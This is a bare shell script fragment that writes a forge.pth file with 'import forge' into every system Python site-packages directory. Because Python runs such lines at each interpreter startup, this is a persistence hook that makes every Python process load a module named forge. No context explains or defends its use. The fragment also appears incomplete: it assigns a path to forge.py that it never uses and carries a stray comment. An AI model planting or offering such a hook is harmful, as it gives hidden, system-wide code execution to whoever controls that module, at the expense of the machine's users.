# a .pth file in the interpreter's libraries
for place in /usr/lib/python3*/dist-packages /usr/local/lib/python3*/*-packages; do
    [ -d "$place" ] || continue
    forge=$place/forge.py
# uses forged_module
    echo 'import forge' > "$place/forge.pth"
done
